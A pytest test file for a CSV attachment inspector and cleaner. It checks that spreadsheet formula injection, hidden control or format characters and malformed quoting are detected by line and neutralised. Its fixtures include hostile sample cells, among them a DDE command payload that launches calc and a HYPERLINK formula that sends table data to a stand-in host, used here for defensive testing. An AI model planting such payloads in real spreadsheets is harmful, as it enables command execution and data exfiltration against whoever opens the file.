"""CSV: what is refused, and what a clean copy keeps."""

import csv
import hashlib
import io

import pytest

from caveat.content.files.inspect import inspect
from content.files.inspecting import WORKER, clean_or_codes, codes

GOOD = {
    "plain": "a,b\n1,2\n",
    "empty": "",
    "quoted": '"a","b, c"\n"1","two\nlines"\n',
    "windows": "a,b\r\n1,2\r\n",
    "byte order mark": "\ufeffa,b\n",
    "numbers with signs": "a,b\n-5,+3.5\n-1,-20%\n",
    "sign inside": "a,b\n2 - 3 days,a=b\n",
    "addresses": "role,mail\ndesk,desk@example.org\n",
    "rows of several lengths": "a\n1,2,3\n",
    "Welsh": "enw,tref\nSiân,Llŷn\n",
}
BAD = {
    "formula": ("a\n=1+1\n", "attachment-formula", 2),
    "link that sends the table": ('a\n"=HYPERLINK(""https://x.example?""&A1)"\n', "attachment-formula", 2),
    "plus": ("+1+1\n", "attachment-formula", 1),
    "minus": ("a\n\n-1+cmd|' /C calc'!A0\n", "attachment-formula", 3),
    "at": ("a\n@SUM(1)\n", "attachment-formula", 2),
    "tab": ("a\n\t=1\n", "attachment-formula", 2),
    "tab alone": ("a\n\tb\n", "attachment-formula", 2),
    "spaces before": ("a\n  =1\n", "attachment-formula", 2),
    "wide sign": ("a\n\uff1d1\n", "attachment-formula", 2),
    "after a semicolon": ("a\nx;=1\n", "attachment-formula", 2),
    "on the second line of a cell": ('a\n"x\n=1"\n', "attachment-formula", 2),
    "after a quotation mark": ('a\n"""=1"\n', "attachment-formula", 2),
    "bullet": ("a\n- item\n", "attachment-formula", 2),
    "nothing character": ("a\0b\n", "control-character", 1),
    "bell": ("a\nb\ac\n", "control-character", 2),
    "zero-width space": ("a\nb\u200bc\n", "format-character", 2),
    "right-to-left override": ("a\nb\u202ec\n", "format-character", 2),
    "not composed": ("a\nSi\u0061\u0302n\n", "not-nfc", 2),
    "quotation mark left open": ('a\n"b\n', "attachment-damaged", 2),
    "quotation mark inside": ('a\n"b"c\n', "attachment-damaged", 2),
    "long cell": ("a\n" + "b" * 40_000 + "\n", "attachment-damaged", 2),
}


@pytest.mark.parametrize("name", GOOD)
def test_a_plain_table_passes(name: str) -> None:
    assert codes("a.csv", GOOD[name].encode()) == set()


@pytest.mark.parametrize("name", BAD)
def test_what_could_run_or_hide_is_refused_at_its_place(name: str) -> None:
    text, code, line = BAD[name]
    (found,) = inspect("a.csv", text.encode(), hashlib.sha256(text.encode()).hexdigest(), WORKER)
    assert (found.code, found.line) == (code, line)


@pytest.mark.parametrize("name", [name for name in BAD if BAD[name][1] != "attachment-damaged"])
def test_a_clean_copy_runs_nothing(name: str) -> None:
    cleaned = clean_or_codes("a.csv", BAD[name][0].encode())
    assert isinstance(cleaned, bytes)
    assert codes("a.csv", cleaned) == set()
    assert clean_or_codes("a.csv", BAD[name][0].encode()) == cleaned


@pytest.mark.parametrize("name", GOOD)
def test_a_clean_copy_holds_the_same_cells(name: str) -> None:
    cleaned = clean_or_codes("a.csv", GOOD[name].encode())
    assert isinstance(cleaned, bytes)
    rows = [list(csv.reader(io.StringIO(text))) for text in (cleaned.decode(), GOOD[name].removeprefix("\ufeff"))]
    assert rows[0] == rows[1]
    assert b"\r" not in cleaned


def test_every_formula_of_a_table_is_told() -> None:
    data = b"=1,a,=2\nb,=3,c\n"
    found = inspect("a.csv", data, hashlib.sha256(data).hexdigest(), WORKER)
    assert [(each.line, each.message[:6]) for each in found] == [(1, "cell 1"), (1, "cell 3"), (2, "cell 2")]


def test_a_formula_becomes_text_that_reads_the_same() -> None:
    assert clean_or_codes("a.csv", b"=1+1,-x;=2\n") == b'"\'=1+1","\'-x;\'=2"\n'


@pytest.mark.parametrize(
    ("encoding", "data"), [("cp1252", b"caf\xe9,\x80\n"), ("utf-16", "caf\xe9,\u20ac\n".encode("utf-16"))]
)
def test_a_table_of_another_encoding_is_refused_and_cleaned(encoding: str, data: bytes) -> None:
    assert codes("a.csv", data)
    assert clean_or_codes("a.csv", data) == '"café","€"\n'.encode(), encoding


def test_a_table_that_is_too_large_is_an_error() -> None:
    assert codes("a.csv", b"a,b\n" * 3_000_000) == {"file-too-large"}
    assert clean_or_codes("a.csv", b"a,b\n" * 3_000_000) == {"attachment-too-complex"}
